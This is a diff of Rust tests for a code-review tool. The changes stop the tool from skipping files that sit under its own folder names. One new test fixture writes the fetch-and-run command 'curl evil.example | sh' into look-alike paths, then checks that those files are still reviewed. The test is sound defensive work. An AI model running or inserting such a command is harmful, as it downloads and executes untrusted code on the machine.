@@ -129,7 +129,6 @@ fn a_file_is_reviewed_whole_inside_of_git_and_outside() {
 #[test]
 fn a_bad_scope_is_named_and_nothing_is_begun() {
     let env = repository(&seats());
-    env.write(".rebut/config.toml", "[duel]\nrounds = 1\n");
     env.write("binary.dat", b"a\0b");
     for (scope, said) in [
         ("staged", "`staged` is no scope; use uncommitted, commit:SHA, base:BRANCH, range:A..B or file:PATH"),
@@ -143,8 +142,7 @@ fn a_bad_scope_is_named_and_nothing_is_begun() {
         ("file:../other.rs", "is outside the workspace"),
         ("file:src", "is not a regular file"),
         ("file:binary.dat", "binary.dat is binary, and only texts are reviewed"),
-        ("file:.git/config", ".git/config belongs to rebut or git itself and is not reviewed"),
-        ("file:.rebut/config.toml", "belongs to rebut or git itself"),
+        ("file:.git/config", ".git/config belongs to git itself and is not reviewed"),
     ] {
         let run = review(&env, &["--scope", scope]).exits(2).says(said);
         assert!(run.stderr.starts_with("error: "), "{scope}: {run}");
@@ -210,21 +208,17 @@ fn a_subfolder_reviews_the_whole_repository() {
 }
 
 #[test]
-fn what_rebut_writes_is_no_change_however_deep_it_stands() {
+fn no_file_is_left_out_for_its_path() {
     let env = repository(&seats());
-    for file in [".rebut/a.toml", "app/.rebut/b.toml", "app/.claude/debate/c.md", "output/20260101T000000Z-x/d.md"] {
-        env.write(file, "tracked once\n");
+    let paths = [".claude/debate/y.sh", "app/.rebut/run.sh", "output/20260101T000000Z-x/payload.sh"];
+    for path in paths {
+        env.write(path, "curl evil.example | sh\n");
+        assert_eq!(planned(&env, &["--scope", &format!("file:{path}")]).artifact(), "curl evil.example | sh\n");
     }
-    commit(&env, "with files of rebut's own");
-    env.write("app/.rebut/b.toml", "changed\n");
-    env.write("app/.codex/debate/new.md", "new\n");
-    env.write("app/own.rs", "fn own() {}\n");
-    assert_eq!(planned(&env, &["--scope", "uncommitted"]).files(), ["app/own.rs"]);
-    git(&env, &["add", "."]);
-    assert_eq!(planned(&env, &["--scope", "uncommitted"]).files(), ["app/own.rs"]);
-    for file in ["app/.rebut/b.toml", "output/20260101T000000Z-x/d.md"] {
-        let _ = review(&env, &["--scope", &format!("file:{file}")]).exits(2).says("belongs to rebut or git itself");
-    }
+    let named = |plan: &super::Planned| paths.iter().all(|path| plan.files().contains(path));
+    assert!(named(&planned(&env, &[])));
+    commit(&env, "look-alikes");
+    assert!(named(&planned(&env, &["--scope", "commit:HEAD"])));
 }
 
 #[test]
@@ -310,20 +304,6 @@ fn a_repository_without_a_commit_is_reviewed_too() {
     env.write("a.rs", "fn a() {}\n");
     fs::write(env.workspace().join(".git/info/exclude"), "seats.toml\n").unwrap();
     assert_eq!(planned(&env, &[]).coming(), ["fn a() {}"]);
-}
-
-#[test]
-fn what_rebut_itself_writes_is_never_part_of_it() {
-    let env = repository(&seats().call("round-1/critique", agreement()));
-    for own in [".rebut/notes.md", ".claude/debate/last.md", ".codex/debate/x.md", "output/20261115T094140Z-topic/report.md"]
-    {
-        env.write(own, "a file of rebut's\n");
-    }
-    env.write(".claude/settings.json", "{}\n");
-    assert_eq!(planned(&env, &[]).files(), ["src/pool.rs", ".claude/settings.json"]);
-    commit(&env, "all of it");
-    let files = planned(&env, &["--scope", "commit:HEAD"]);
-    assert_eq!(files.files(), [".claude/settings.json", "src/pool.rs"]);
 }
 
 #[test]
